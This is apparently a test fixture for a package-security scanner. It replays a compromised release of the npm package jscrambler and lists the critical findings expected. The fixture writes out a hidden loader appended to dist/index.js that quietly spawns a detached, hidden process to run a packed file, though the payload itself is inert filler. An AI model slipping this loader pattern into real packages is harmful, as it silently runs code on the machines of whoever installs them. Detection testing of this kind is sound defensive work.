import { startPacked, unpackLine } from '../packed-program.js'
import { compiledQueue } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'

const start = "spawn(process.execPath, [intro], { detached: true, stdio: 'ignore', windowsHide: true }).unref();"

/** Behind the last line of the honest file: starts the packed file apart from whoever loads the package. */
const appended = [
  ';(() => {',
  '  try {',
  "    const { spawn } = require('child_process');",
  "    const intro = require('path').join(__dirname, 'intro.js');",
  `    ${start}`,
  '  } catch {}',
  '})();',
]

const manifest = { main: 'dist/index.js' }

export const replay = replayUpgrade({
  description:
    'One of the bad releases of jscrambler had no script: once the others were known, this one was left off the lists. Its compiled ' +
    'entry started a file of packed programs, apart from whoever loaded it.',
  date: '2026-07-11',
  name: 'jscrambler',
  from: ['8.13.0', { manifest, files: { 'dist/index.js': compiledQueue } }],
  to: [
    '8.18.0',
    {
      manifest,
      files: {
        'dist/index.js': `${compiledQueue}${appended.join('\n')}\n`,
        'dist/intro.js': startPacked('inert '.repeat(200)),
      },
    },
  ],
  findings: [
    [
      'remote-code-run',
      'critical',
      {
        file: 'dist/intro.js',
        line: unpackLine,
      },
    ],
    [
      'combined-risk',
      'critical',
      {
        file: 'dist/index.js',
        line: start,
      },
    ],
    [
      'capability-added',
      'high',
      {
        file: 'dist/index.js',
        line: start,
      },
    ],
  ],
})
